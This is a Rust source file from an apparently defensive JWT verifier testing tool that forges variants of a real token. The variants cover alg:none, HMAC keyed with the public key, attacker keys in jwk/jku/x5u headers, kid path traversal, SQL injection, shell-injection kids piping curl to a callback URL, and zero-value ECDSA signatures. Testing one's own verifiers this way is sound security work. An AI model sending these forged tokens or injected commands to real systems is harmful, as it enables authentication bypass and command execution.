//! Building the forged variants of a legitimate token.
//!
//! Every variant starts from the legitimate token, so the target sees the
//! same subject, audience and lifetime it accepted in the baseline: only the
//! one property under test differs. Where the original bytes can be kept
//! (the payload of an `alg: none` token, the signature of a tampered one)
//! they are.

use serde_json::{json, Map, Value};
use tokenward_jose::{decode_b64url, encode_b64url, Algorithm, KeyFamily, SigningKey};

use crate::class::Class;
use crate::ProbeError;

/// The legitimate token, split and decoded.
#[derive(Debug, Clone)]
pub struct LegitToken {
    /// The encoded header, payload and signature.
    pub parts: [String; 3],
    /// The decoded header.
    pub header: Map<String, Value>,
    /// The decoded claims.
    pub claims: Map<String, Value>,
    /// `alg` as written.
    pub alg_name: String,
    /// `alg`, when tokenward implements it.
    pub alg: Option<Algorithm>,
}

fn object(part: &str, what: &str) -> Result<Map<String, Value>, ProbeError> {
    let bytes = decode_b64url(part.as_bytes())
        .map_err(|_| ProbeError::Usage(format!("the token's {what} is not base64url")))?;
    match serde_json::from_slice(&bytes) {
        Ok(Value::Object(map)) => Ok(map),
        _ => Err(ProbeError::Usage(format!(
            "the token's {what} is not a JSON object (probe needs a JWT, not an opaque or encrypted token)"
        ))),
    }
}

impl LegitToken {
    /// Splits and decodes a compact JWS whose payload is a JSON claim set.
    pub fn parse(token: &str) -> Result<LegitToken, ProbeError> {
        let token = token.trim();
        let parts: Vec<&str> = token.split('.').collect();
        if parts.len() != 3 {
            return Err(ProbeError::Usage(format!(
                "the token has {} segments; a signed JWT has 3",
                parts.len()
            )));
        }
        let header = object(parts[0], "header")?;
        let claims = object(parts[1], "payload")?;
        let alg_name = header
            .get("alg")
            .and_then(Value::as_str)
            .ok_or_else(|| ProbeError::Usage("the token's header has no \"alg\"".into()))?
            .to_owned();
        let alg = alg_name.parse().ok();
        Ok(LegitToken {
            parts: [parts[0].into(), parts[1].into(), parts[2].into()],
            header,
            claims,
            alg,
            alg_name,
        })
    }

    /// The `kid`, if the header has one.
    pub fn kid(&self) -> Option<&str> {
        self.header.get("kid").and_then(Value::as_str)
    }

    /// A string claim.
    pub fn claim(&self, name: &str) -> Option<&str> {
        self.claims.get(name).and_then(Value::as_str)
    }
}

/// One forged request to send.
#[derive(Debug, Clone)]
pub struct Forged {
    /// The class it tests.
    pub class: Class,
    /// Short name of the variant, unique within the class.
    pub name: String,
    /// What was changed, in words (never the token itself).
    pub sent: String,
    /// The token.
    pub token: String,
    /// The callback path whose hit proves the target ran or fetched
    /// something because of this token.
    pub callback: Option<String>,
}

/// A class that could not run, and what it needs.
#[derive(Debug, Clone, PartialEq, Eq, serde::Serialize)]
pub struct Skipped {
    /// The class.
    pub class: Class,
    /// What would let it run.
    pub needs: String,
}

/// A document the callback listener serves (attacker key sets and
/// certificates).
#[derive(Debug, Clone)]
pub struct Document {
    /// Path on the listener, starting with `/`.
    pub path: String,
    /// `Content-Type`.
    pub content_type: &'static str,
    /// Body.
    pub body: Vec<u8>,
}

/// A public key the target publishes, in the encodings a confused verifier
/// might use as an HMAC secret.
#[derive(Debug, Clone)]
pub struct PublicKeyBytes {
    /// Where it came from (`kid` or file name), for the report.
    pub label: String,
    /// (encoding name, exact secret bytes).
    pub encodings: Vec<(String, Vec<u8>)>,
}

impl PublicKeyBytes {
    /// The encodings of a SubjectPublicKeyInfo: PEM with and without the
    /// final newline, and DER. `original` (the bytes of a PEM file as the
    /// user gave it) comes first when known, since that is what a server
    /// reading the same file would use.
    pub fn from_spki(label: String, spki_der: &[u8], original: Option<Vec<u8>>) -> PublicKeyBytes {
        let pem_text = pem::encode_config(
            &pem::Pem::new("PUBLIC KEY", spki_der.to_vec()),
            pem::EncodeConfig::new().set_line_ending(pem::LineEnding::LF),
        );
        let mut encodings: Vec<(String, Vec<u8>)> = Vec::new();
        if let Some(bytes) = original {
            encodings.push(("file-as-given".into(), bytes));
        }
        let with_newline = pem_text.into_bytes();
        let mut without = with_newline.clone();
        while without.last() == Some(&b'\n') {
            without.pop();
        }
        for (name, bytes) in [
            ("pem", with_newline),
            ("pem-no-final-newline", without),
            ("der", spki_der.to_vec()),
        ] {
            if !encodings.iter().any(|(_, b)| *b == bytes) {
                encodings.push((name.into(), bytes));
            }
        }
        PublicKeyBytes { label, encodings }
    }
}

/// A private key of another issuer or tenant that the target's key set
/// also publishes.
pub struct ForeignKey {
    /// The key, bound to the algorithm it signs with.
    pub key: SigningKey,
    /// The `kid` the target's key set lists it under.
    pub kid: String,
    /// Where it came from, for the report.
    pub label: String,
}

/// Everything forging needs besides the token.
pub struct ForgeInputs<'a> {
    /// The legitimate token.
    pub token: &'a LegitToken,
    /// The target's published keys (`--jwks`, `--public-key`).
    pub public_keys: &'a [PublicKeyBytes],
    /// The key that signed the token (`--key`), bound to its algorithm.
    pub key: Option<&'a SigningKey>,
    /// Keys of other issuers in the same key set (`--foreign-key`).
    pub foreign_keys: &'a [ForeignKey],
    /// Base URL of the callback listener as the target reaches it, without
    /// a trailing slash.
    pub callback_base: &'a str,
    /// Now, in seconds since the epoch.
    pub now: i64,
}

/// The variants to send, the documents the listener must serve for them,
/// and the classes that cannot run.
pub struct Battery {
    /// Forged tokens in report order.
    pub forged: Vec<Forged>,
    /// Documents for the callback listener.
    pub documents: Vec<Document>,
    /// Classes that need an option the user did not give.
    pub skipped: Vec<Skipped>,
}

fn b64_json(value: &impl serde::Serialize) -> String {
    encode_b64url(
        serde_json::to_string(value)
            .expect("JSON values serialise")
            .as_bytes(),
    )
}

fn hmac(alg: Algorithm, secret: &[u8], input: &str) -> Result<String, ProbeError> {
    let key = SigningKey::from_pkcs8(alg, secret).map_err(|e| ProbeError::Internal(e.0))?;
    let sig = key
        .sign_raw(input.as_bytes())
        .map_err(|e| ProbeError::Internal(e.0))?;
    Ok(format!("{input}.{}", encode_b64url(&sig)))
}

fn sign(
    key: &SigningKey,
    header: &Map<String, Value>,
    claims: &Map<String, Value>,
) -> Result<String, ProbeError> {
    key.sign_token(header, claims)
        .map_err(|e| ProbeError::Internal(e.0))
}

/// The attacker's own key for `header-jwk`, `-jku` and `-x5u`: the same
/// family as the legitimate token's, so a verifier that pins the algorithm
/// but takes the key from the header is still caught.
fn attacker_algorithm(token: &LegitToken) -> Algorithm {
    match token.alg.map(Algorithm::family) {
        Some(KeyFamily::Rsa | KeyFamily::Ec(_) | KeyFamily::Okp) => {
            token.alg.expect("family implies alg")
        }
        _ => Algorithm::RS256,
    }
}

/// The kid the attacker key is published under.
pub const ATTACKER_KID: &str = "tokenward-probe";

/// A tenant id nobody has: the `wrong-tenant` claim.
pub const FOREIGN_TENANT: &str = "00000000-7072-6f62-6500-746f6b656e77";

/// An issuer nobody trusts: the `wrong-issuer` claim.
pub const FOREIGN_ISSUER: &str = "https://issuer.tokenward-probe.invalid/";

/// An audience nobody serves: the `wrong-audience` claim.
pub const FOREIGN_AUDIENCE: &str = "https://api.tokenward-probe.invalid";

fn self_signed_cert_pem(key: &SigningKey) -> Result<String, ProbeError> {
    let internal =
        |e: &dyn std::fmt::Display| ProbeError::Internal(format!("attacker certificate: {e}"));
    let algo: &'static rcgen::SignatureAlgorithm = match key.algorithm() {
        Algorithm::ES256 => &rcgen::PKCS_ECDSA_P256_SHA256,
        Algorithm::ES384 => &rcgen::PKCS_ECDSA_P384_SHA384,
        Algorithm::ES512 => &rcgen::PKCS_ECDSA_P521_SHA512,
        Algorithm::EdDSA => &rcgen::PKCS_ED25519,
        _ => &rcgen::PKCS_RSA_SHA256,
    };
    let pkcs8 = key.to_pkcs8().map_err(|e| internal(&e))?;
    let der = rustls::pki_types::PrivatePkcs8KeyDer::from(pkcs8.as_slice());
    let pair =
        rcgen::KeyPair::from_pkcs8_der_and_sign_algo(&der, algo).map_err(|e| internal(&e))?;
    let params = rcgen::CertificateParams::new(vec!["tokenward-probe.invalid".to_owned()])
        .map_err(|e| internal(&e))?;
    Ok(params.self_signed(&pair).map_err(|e| internal(&e))?.pem())
}

/// Builds the whole battery.
pub fn battery(inputs: &ForgeInputs<'_>) -> Result<Battery, ProbeError> {
    let token = inputs.token;
    let [h, p, s] = &token.parts;
    let signing_input = format!("{h}.{p}");
    let mut forged = Vec::new();
    let mut documents = Vec::new();
    let mut skipped = Vec::new();
    let mut push = |class, name: &str, sent: String, token: String, callback: Option<String>| {
        forged.push(Forged {
            class,
            name: name.to_owned(),
            sent,
            token,
            callback,
        })
    };
    let with = |changes: &[(&str, Value)]| {
        let mut header = token.header.clone();
        for (k, v) in changes {
            header.insert((*k).to_owned(), v.clone());
        }
        header
    };
    let without = |header: &mut Map<String, Value>, names: &[&str]| {
        for n in names {
            header.remove(*n);
        }
    };

    // alg-none: each casing a verifier might compare case-sensitively.
    for alg in ["none", "None", "NONE", "nOnE"] {
        let header = with(&[("alg", json!(alg))]);
        push(
            Class::AlgNone,
            alg,
            format!("alg={alg}, empty signature"),
            format!("{}.{p}.", b64_json(&header)),
            None,
        );
    }

    push(
        Class::SignatureStripped,
        "empty-signature",
        "original header and payload, empty signature (trailing dot)".into(),
        format!("{signing_input}."),
        None,
    );
    push(
        Class::SignatureStripped,
        "two-segments",
        "original header and payload, no third segment".into(),
        signing_input.clone(),
        None,
    );

    let signature = decode_b64url(s.as_bytes()).unwrap_or_default();
    push(
        Class::SignatureInvalid,
        "zero-bytes",
        format!(
            "signature replaced by {} zero bytes",
            signature.len().max(1)
        ),
        format!(
            "{signing_input}.{}",
            encode_b64url(&vec![0u8; signature.len().max(1)])
        ),
        None,
    );
    if s.len() > 4 {
        push(
            Class::SignatureInvalid,
            "truncated",
            "last 4 characters of the signature cut".into(),
            format!("{signing_input}.{}", &s[..s.len() - 4]),
            None,
        );
    }

    // claims-tampered: the original signature over a changed payload.
    let subject_claim = ["sub", "oid", "upn", "preferred_username", "email"]
        .into_iter()
        .find(|c| token.claims.get(*c).is_some_and(Value::is_string))
        .unwrap_or("sub");
    let mut claims = token.claims.clone();
    claims.insert(subject_claim.into(), json!("tokenward-probe"));
    push(
        Class::ClaimsTampered,
        "subject",
        format!("{subject_claim} changed, original signature"),
        format!("{h}.{}.{s}", b64_json(&claims)),
        None,
    );
    let mut claims = token.claims.clone();
    claims.insert("exp".into(), json!(inputs.now + 365 * 86_400));
    push(
        Class::ClaimsTampered,
        "lifetime",
        "exp moved a year ahead, original signature".into(),
        format!("{h}.{}.{s}", b64_json(&claims)),
        None,
    );

    // hs-public-key
    let family = token.alg.map(Algorithm::family);
    if matches!(family, Some(KeyFamily::Symmetric)) {
        skipped.push(Skipped {
            class: Class::HsPublicKey,
            needs: "a token signed with a public-key algorithm (this one is HMAC)".into(),
        });
    } else if inputs.public_keys.is_empty() {
        skipped.push(Skipped {
            class: Class::HsPublicKey,
            needs: "--jwks or --public-key".into(),
        });
    } else {
        // The same bytes reached through --jwks and --public-key are sent once.
        let mut sent: Vec<&[u8]> = Vec::new();
        for key in inputs.public_keys {
            for (encoding, secret) in &key.encodings {
                if sent.contains(&secret.as_slice()) {
                    continue;
                }
                sent.push(secret);
                let header = with(&[("alg", json!("HS256"))]);
                let input = format!("{}.{p}", b64_json(&header));
                push(
                    Class::HsPublicKey,
                    &format!("{}/{encoding}", key.label),
                    format!("HS256 keyed with public key {} as {encoding}", key.label),
                    hmac(Algorithm::HS256, secret, &input)?,
                    None,
                );
            }
        }
    }

    let header = with(&[("alg", json!("HS256"))]);
    let input = format!("{}.{p}", b64_json(&header));
    push(
        Class::EmptyHmacKey,
        "HS256",
        "HS256 with an empty secret".into(),
        hmac(Algorithm::HS256, b"", &input)?,
        None,
    );

    // The attacker's key, offered three ways.
    let attacker_alg = attacker_algorithm(token);
    let attacker = SigningKey::generate(attacker_alg).map_err(|e| ProbeError::Internal(e.0))?;
    let base = inputs.callback_base;
    let mut attacker_jwk = attacker.public_jwk(ATTACKER_KID);
    attacker_jwk["alg"] = json!(attacker_alg.name());
    let kid_variants: Vec<(&str, Value)> = match token.kid() {
        Some(kid) => vec![
            ("own-kid", json!(ATTACKER_KID)),
            ("original-kid", json!(kid)),
        ],
        None => vec![("own-kid", json!(ATTACKER_KID))],
    };
    for (name, kid) in &kid_variants {
        let mut header = with(&[
            ("alg", json!(attacker_alg.name())),
            ("jwk", attacker_jwk.clone()),
            ("kid", kid.clone()),
        ]);
        without(&mut header, &["jku", "x5u", "x5c", "x5t", "x5t#S256"]);
        push(
            Class::HeaderJwk,
            name,
            format!(
                "{} signed by a fresh key embedded as jwk, kid {kid}",
                attacker_alg.name()
            ),
            sign(&attacker, &header, &token.claims)?,
            None,
        );
    }
    for (name, kid) in &kid_variants {
        let path = format!("/jku/{name}/jwks.json");
        let mut published = attacker_jwk.clone();
        published["kid"] = kid.clone();
        documents.push(Document {
            path: path.clone(),
            content_type: "application/jwk-set+json",
            body: json!({"keys": [published]}).to_string().into_bytes(),
        });
        let mut header = with(&[
            ("alg", json!(attacker_alg.name())),
            ("jku", json!(format!("{base}{path}"))),
            ("kid", kid.clone()),
        ]);
        without(&mut header, &["jwk", "x5u", "x5c", "x5t", "x5t#S256"]);
        push(
            Class::HeaderJku,
            name,
            format!(
                "{} signed by a fresh key served at jku {base}{path}",
                attacker_alg.name()
            ),
            sign(&attacker, &header, &token.claims)?,
            Some(path),
        );
    }
    let cert_path = "/x5u/cert.pem".to_owned();
    documents.push(Document {
        path: cert_path.clone(),
        content_type: "application/x-pem-file",
        body: self_signed_cert_pem(&attacker)?.into_bytes(),
    });
    let mut header = with(&[
        ("alg", json!(attacker_alg.name())),
        ("x5u", json!(format!("{base}{cert_path}"))),
    ]);
    without(
        &mut header,
        &["jwk", "jku", "x5c", "x5t", "x5t#S256", "kid"],
    );
    push(
        Class::HeaderX5u,
        "self-signed",
        format!(
            "{} signed by a fresh key in a self-signed certificate at x5u {base}{cert_path}",
            attacker_alg.name()
        ),
        sign(&attacker, &header, &token.claims)?,
        Some(cert_path),
    );

    // kid-traversal: files that exist and are empty, or do not exist, read
    // as an empty HMAC secret.
    for kid in [
        "../../../../../../../../dev/null",
        "/dev/null",
        "/tokenward-probe-missing-file",
        "",
    ] {
        let header = with(&[("alg", json!("HS256")), ("kid", json!(kid))]);
        let input = format!("{}.{p}", b64_json(&header));
        push(
            Class::KidTraversal,
            if kid.is_empty() { "blank" } else { kid },
            format!("HS256 with an empty secret, kid {kid:?}"),
            hmac(Algorithm::HS256, b"", &input)?,
            None,
        );
    }

    // kid-injection: SQL that makes a lookup return "1" as the secret, and
    // shell commands that call back (the response may look like any
    // refusal; the callback proves the command ran).
    let header = with(&[
        ("alg", json!("HS256")),
        ("kid", json!("x' UNION SELECT '1';--")),
    ]);
    let input = format!("{}.{p}", b64_json(&header));
    push(
        Class::KidInjection,
        "sql-union",
        "HS256 with secret \"1\", kid x' UNION SELECT '1';--".into(),
        hmac(Algorithm::HS256, b"1", &input)?,
        None,
    );
    for (name, template) in [
        ("shell-pipe", "| curl -s {url}"),
        ("shell-semicolon", "; curl -s {url}"),
        ("shell-substitution", "$(curl -s {url})"),
    ] {
        let path = format!("/kid/{name}");
        let kid = template.replace("{url}", &format!("{base}{path}"));
        let header = with(&[("alg", json!("HS256")), ("kid", json!(kid))]);
        let input = format!("{}.{p}", b64_json(&header));
        push(
            Class::KidInjection,
            name,
            format!("HS256 with an empty secret, kid {kid:?} (accepted if the callback is hit)"),
            hmac(Algorithm::HS256, b"", &input)?,
            Some(path),
        );
    }

    // psychic-signature: r = s = 0 for each curve, in JOSE's fixed-size
    // form (a library converting it to DER hands the broken check r = s = 0).
    for (alg, size) in [("ES256", 64), ("ES384", 96), ("ES512", 132)] {
        let header = with(&[("alg", json!(alg))]);
        push(
            Class::PsychicSignature,
            alg,
            format!("{alg} with r = s = 0"),
            format!(
                "{}.{p}.{}",
                b64_json(&header),
                encode_b64url(&vec![0u8; size])
            ),
            None,
        );
    }

    claim_classes(inputs, &mut forged, &mut skipped)?;

    if inputs.foreign_keys.is_empty() {
        skipped.push(Skipped {
            class: Class::CrossIssuerKey,
            needs:
                "--foreign-key (a private key of another issuer or tenant in the target's key set)"
                    .into(),
        });
    }
    for foreign in inputs.foreign_keys {
        let mut header = token.header.clone();
        header.insert("alg".into(), json!(foreign.key.algorithm().name()));
        header.insert("kid".into(), json!(foreign.kid));
        without(
            &mut header,
            &["x5t", "x5t#S256", "jku", "jwk", "x5u", "x5c"],
        );
        forged.push(Forged {
            class: Class::CrossIssuerKey,
            name: foreign.kid.clone(),
            sent: format!(
                "signed by {} (kid {}), claiming the legitimate iss{}",
                foreign.label,
                foreign.kid,
                if token.claims.contains_key("tid") {
                    " and tid"
                } else {
                    ""
                }
            ),
            token: sign(&foreign.key, &header, &token.claims)?,
            callback: None,
        });
    }
    Ok(Battery {
        forged,
        documents,
        skipped,
    })
}

/// The classes that need the token's own key: each changes one claim and
/// signs properly, so a refusal can only be about that claim.
fn claim_classes(
    inputs: &ForgeInputs<'_>,
    forged: &mut Vec<Forged>,
    skipped: &mut Vec<Skipped>,
) -> Result<(), ProbeError> {
    let token = inputs.token;
    let classes = Class::NEEDS_KEY;
    let Some(key) = inputs.key else {
        for class in classes {
            skipped.push(Skipped {
                class,
                needs: "--key (the private key that signed --token)".into(),
            });
        }
        return Ok(());
    };
    let now = inputs.now;
    let header = token.header.clone();
    let mut add =
        |class, name: &str, sent: String, claims: Map<String, Value>| -> Result<(), ProbeError> {
            forged.push(Forged {
                class,
                name: name.to_owned(),
                sent,
                token: sign(key, &header, &claims)?,
                callback: None,
            });
            Ok(())
        };
    // Two hours: beyond any clock-skew leeway a verifier could defend.
    let mut claims = token.claims.clone();
    claims.insert("exp".into(), json!(now - 7_200));
    claims.insert("iat".into(), json!(now - 10_800));
    if claims.contains_key("nbf") {
        claims.insert("nbf".into(), json!(now - 10_800));
    }
    add(
        Class::Expired,
        "two-hours-ago",
        "exp two hours ago, re-signed".into(),
        claims,
    )?;

    let mut claims = token.claims.clone();
    claims.insert("nbf".into(), json!(now + 7_200));
    claims.insert("iat".into(), json!(now + 7_200));
    claims.insert("exp".into(), json!(now + 10_800));
    add(
        Class::NotYetValid,
        "in-two-hours",
        "nbf and iat two hours ahead, re-signed".into(),
        claims,
    )?;

    let mut claims = token.claims.clone();
    let aud = match token.claims.get("aud") {
        Some(Value::Array(_)) => json!([FOREIGN_AUDIENCE]),
        _ => json!(FOREIGN_AUDIENCE),
    };
    claims.insert("aud".into(), aud);
    add(
        Class::WrongAudience,
        "foreign-audience",
        format!("aud {FOREIGN_AUDIENCE}, re-signed"),
        claims,
    )?;

    let mut claims = token.claims.clone();
    claims.insert("iss".into(), json!(FOREIGN_ISSUER));
    add(
        Class::WrongIssuer,
        "foreign-issuer",
        format!("iss {FOREIGN_ISSUER}, re-signed"),
        claims,
    )?;

    match token.claim("tid") {
        Some(tid) => {
            let mut claims = token.claims.clone();
            claims.insert("tid".into(), json!(FOREIGN_TENANT));
            if let Some(iss) = token.claim("iss") {
                claims.insert("iss".into(), json!(iss.replace(tid, FOREIGN_TENANT)));
            }
            add(
                Class::WrongTenant,
                "foreign-tenant",
                format!("tid {FOREIGN_TENANT} and the same tenant in iss, re-signed"),
                claims,
            )?;
        }
        None => skipped.push(Skipped {
            class: Class::WrongTenant,
            needs: "a token with a tid claim".into(),
        }),
    }
    Ok(())
}

/// The legitimate claims re-signed with `--key`: if the target refuses this,
/// `--key` is not the key that signed the token and the claim classes prove
/// nothing.
pub fn resigned_control(token: &LegitToken, key: &SigningKey) -> Result<String, ProbeError> {
    sign(key, &token.header, &token.claims)
}

/// The legitimate token with one signature byte flipped: the baseline's
/// "broken signature" request.
pub fn broken_signature(token: &LegitToken) -> String {
    let [h, p, s] = &token.parts;
    let mut sig = decode_b64url(s.as_bytes()).unwrap_or_default();
    match sig.last_mut() {
        Some(last) => *last ^= 0x01,
        None => sig.push(0),
    }
    format!("{h}.{p}.{}", encode_b64url(&sig))
}

#[cfg(test)]
mod tests {
    use super::*;
    use tokenward_jose::{Jwk, Jws, Limits, VerifyingKey};

    fn legit(key: &SigningKey) -> LegitToken {
        let claims = json!({"iss": "https://login.microsoftonline.com/t-1/v2.0", "tid": "t-1",
                            "aud": ["api://x"], "sub": "alice", "exp": 2_000_000_000, "iat": 1_000});
        let token = key
            .sign_token(
                &json!({"alg": key.algorithm().name(), "kid": "k1"}),
                &claims,
            )
            .unwrap();
        LegitToken::parse(&token).unwrap()
    }

    fn parts(token: &str) -> (Value, Value, Vec<u8>) {
        let p: Vec<&str> = token.split('.').collect();
        let h = serde_json::from_slice(&decode_b64url(p[0].as_bytes()).unwrap()).unwrap();
        let c = serde_json::from_slice(&decode_b64url(p[1].as_bytes()).unwrap()).unwrap();
        (
            h,
            c,
            decode_b64url(p.get(2).unwrap_or(&"").as_bytes()).unwrap(),
        )
    }

    fn build(
        token: &LegitToken,
        public: &[PublicKeyBytes],
        key: Option<&SigningKey>,
        foreign: &[ForeignKey],
    ) -> Battery {
        battery(&ForgeInputs {
            token,
            public_keys: public,
            key,
            foreign_keys: foreign,
            callback_base: "http://127.0.0.1:9",
            now: 1_700_000_000,
        })
        .unwrap()
    }

    fn of(b: &Battery, class: Class) -> Vec<&Forged> {
        b.forged.iter().filter(|f| f.class == class).collect()
    }

    #[test]
    fn unsigned_and_tampered_variants_keep_what_they_should() {
        let key = SigningKey::generate(Algorithm::ES256).unwrap();
        let token = legit(&key);
        let b = build(&token, &[], None, &[]);
        let algs: Vec<String> = of(&b, Class::AlgNone)
            .iter()
            .map(|f| {
                assert!(f.token.ends_with('.'), "{}", f.name);
                assert!(
                    f.token.contains(&format!(".{}.", token.parts[1])),
                    "payload kept"
                );
                parts(&f.token).0["alg"].as_str().unwrap().to_owned()
            })
            .collect();
        assert_eq!(algs, ["none", "None", "NONE", "nOnE"]);
        for f in of(&b, Class::ClaimsTampered) {
            assert!(
                f.token.ends_with(&format!(".{}", token.parts[2])),
                "signature kept"
            );
            assert_ne!(parts(&f.token).1, Value::Object(token.claims.clone()));
        }
        for f in of(&b, Class::PsychicSignature) {
            let (h, _, sig) = parts(&f.token);
            let size = match h["alg"].as_str().unwrap() {
                "ES256" => 64,
                "ES384" => 96,
                _ => 132,
            };
            assert_eq!(sig, vec![0u8; size]);
        }
        // The broken-signature baseline really is broken, and only just.
        let broken = broken_signature(&token);
        let verifier = VerifyingKey::from_jwk(
            &Jwk::from_value(&key.public_jwk("k1")).unwrap(),
            Algorithm::ES256,
        )
        .unwrap();
        let original = token.parts.join(".");
        let ok = Jws::parse(&original, &Limits::default()).unwrap();
        assert!(verifier.verify(ok.signing_input.as_bytes(), &ok.signature));
        let bad = Jws::parse(&broken, &Limits::default()).unwrap();
        assert!(!verifier.verify(bad.signing_input.as_bytes(), &bad.signature));
        assert_eq!(bad.signature.len(), ok.signature.len());
    }

    #[test]
    fn key_confusion_tokens_are_valid_hmacs_under_the_public_key_bytes() {
        let key = SigningKey::generate(Algorithm::RS256).unwrap();
        let token = legit(&key);
        let spki = key.public_spki_der().unwrap();
        let public = [PublicKeyBytes::from_spki("k1".into(), &spki, None)];
        let b = build(&token, &public, None, &[]);
        let confused = of(&b, Class::HsPublicKey);
        assert_eq!(confused.len(), 3, "pem, pem without newline, der");
        for (f, (_, secret)) in confused.iter().zip(&public[0].encodings) {
            let jws = Jws::parse(&f.token, &Limits::default()).unwrap();
            let mac = VerifyingKey::hmac(Algorithm::HS256, secret);
            // Secrets shorter than the hash are refused by our own verifier;
            // check those with the signing side instead.
            match mac {
                Ok(v) => assert!(
                    v.verify(jws.signing_input.as_bytes(), &jws.signature),
                    "{}",
                    f.name
                ),
                Err(_) => panic!("{} secret too short to be a public key", f.name),
            }
        }
        assert!(b.skipped.is_empty() || !b.skipped.iter().any(|s| s.class == Class::HsPublicKey));
        // Without public keys the class is skipped with the option named.
        let b = build(&token, &[], None, &[]);
        assert!(of(&b, Class::HsPublicKey).is_empty());
        assert!(b
            .skipped
            .iter()
            .any(|s| s.class == Class::HsPublicKey && s.needs.contains("--jwks")));
    }

    #[test]
    fn header_key_variants_verify_under_the_key_they_offer() {
        let key = SigningKey::generate(Algorithm::RS256).unwrap();
        let token = legit(&key);
        let b = build(&token, &[], None, &[]);
        for f in of(&b, Class::HeaderJwk) {
            let (h, c, _) = parts(&f.token);
            assert_eq!(c, Value::Object(token.claims.clone()));
            let jwk = Jwk::from_value(&h["jwk"]).unwrap();
            let v = VerifyingKey::from_jwk(&jwk, Algorithm::RS256).unwrap();
            let jws = Jws::parse(&f.token, &Limits::default()).unwrap();
            assert!(v.verify(jws.signing_input.as_bytes(), &jws.signature));
        }
        for f in of(&b, Class::HeaderJku) {
            let (h, _, _) = parts(&f.token);
            let path = f.callback.as_deref().unwrap();
            assert_eq!(h["jku"], json!(format!("http://127.0.0.1:9{path}")));
            let doc = b.documents.iter().find(|d| d.path == path).unwrap();
            let set: Value = serde_json::from_slice(&doc.body).unwrap();
            assert_eq!(
                set["keys"][0]["kid"], h["kid"],
                "served under the kid the token names"
            );
        }
        let x5u = of(&b, Class::HeaderX5u);
        let doc = b
            .documents
            .iter()
            .find(|d| Some(d.path.as_str()) == x5u[0].callback.as_deref())
            .unwrap();
        assert!(doc.body.starts_with(b"-----BEGIN CERTIFICATE-----"));
    }

    #[test]
    fn claim_classes_change_one_claim_each_and_need_the_key() {
        let key = SigningKey::generate(Algorithm::RS256).unwrap();
        let token = legit(&key);
        let b = build(&token, &[], None, &[]);
        for class in [Class::Expired, Class::WrongTenant, Class::CrossIssuerKey] {
            assert!(of(&b, class).is_empty());
            assert!(b.skipped.iter().any(|s| s.class == class), "{class}");
        }
        let foreign = [ForeignKey {
            key: SigningKey::generate(Algorithm::RS256).unwrap(),
            kid: "msa-1".into(),
            label: "msa.pem".into(),
        }];
        let b = build(&token, &[], Some(&key), &foreign);
        let claims = |class| parts(&of(&b, class)[0].token).1;
        assert!(claims(Class::Expired)["exp"].as_i64().unwrap() < 1_700_000_000 - 3600);
        assert!(claims(Class::NotYetValid)["nbf"].as_i64().unwrap() > 1_700_000_000 + 3600);
        assert_eq!(
            claims(Class::WrongAudience)["aud"],
            json!([FOREIGN_AUDIENCE]),
            "array kept an array"
        );
        assert_eq!(claims(Class::WrongIssuer)["iss"], json!(FOREIGN_ISSUER));
        let wrong_tenant = claims(Class::WrongTenant);
        assert_eq!(wrong_tenant["tid"], json!(FOREIGN_TENANT));
        assert_eq!(
            wrong_tenant["iss"],
            json!(format!(
                "https://login.microsoftonline.com/{FOREIGN_TENANT}/v2.0"
            ))
        );
        let cross = of(&b, Class::CrossIssuerKey)[0];
        let (h, c, _) = parts(&cross.token);
        assert_eq!(h["kid"], "msa-1");
        assert_eq!(
            c,
            Value::Object(token.claims.clone()),
            "legitimate iss and tid claimed"
        );
        let v = VerifyingKey::from_jwk(
            &Jwk::from_value(&foreign[0].key.public_jwk("msa-1")).unwrap(),
            Algorithm::RS256,
        )
        .unwrap();
        let jws = Jws::parse(&cross.token, &Limits::default()).unwrap();
        assert!(v.verify(jws.signing_input.as_bytes(), &jws.signature));
    }

    #[test]
    fn tokens_that_are_not_signed_jwts_are_refused_with_the_reason() {
        for (token, why) in [
            ("abc", "segments"),
            ("a.b.c.d.e", "segments"),
            ("!!.e30.", "base64url"),
            ("W10.e30.", "JSON object"),
            ("e30.e30.", "no \"alg\""),
        ] {
            let err = LegitToken::parse(token).err().unwrap().to_string();
            assert!(err.contains(why), "{token}: {err}");
        }
    }
}
